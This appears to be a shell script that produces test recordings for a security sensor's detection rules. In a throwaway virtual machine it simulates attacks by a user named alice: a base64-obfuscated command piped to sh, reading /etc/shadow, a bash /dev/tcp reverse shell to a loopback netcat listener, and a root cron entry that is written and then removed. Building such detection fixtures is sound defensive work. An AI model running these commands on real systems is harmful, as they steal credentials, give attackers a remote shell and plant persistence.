#!/bin/sh
# What `attacks.rec` holds: run by root in a throw-away virtual machine with bash, coreutils, util-linux, busybox and a user `alice`:
#
#     sensor record -o attacks.rec --rules rules &    # and when it says that it records:
#     sh attacks.sh; kill %1
#
# Nothing leaves the machine: the "attacker" is a busybox that listens on the loopback interface.
set -u

# The attacker's end of the reverse shell, and what he types there.
(sleep 3; echo id; sleep 1; echo exit) | busybox nc -l -p 4444 >/dev/null &

# What alice types, a second apart, in a shell of her own that carries her login.
alice() { echo 1000 >/proc/self/loginuid; HOME=/home/alice exec setpriv --reuid 1000 --regid 1000 --clear-groups --inh-caps=-all bash; }
{
    echo 'cd'
    echo "bash -c 'echo aWQK | base64 -d | sh' >/dev/null"
    sleep 1
    echo 'cat /etc/shadow 2>/dev/null'
    sleep 1
    echo "bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; sh <&3 >&3 2>&3'"
    sleep 3
} | (alice)
wait

sh -c 'echo "* * * * * root true" > /etc/cron.d/try; rm /etc/cron.d/try'
sleep 1
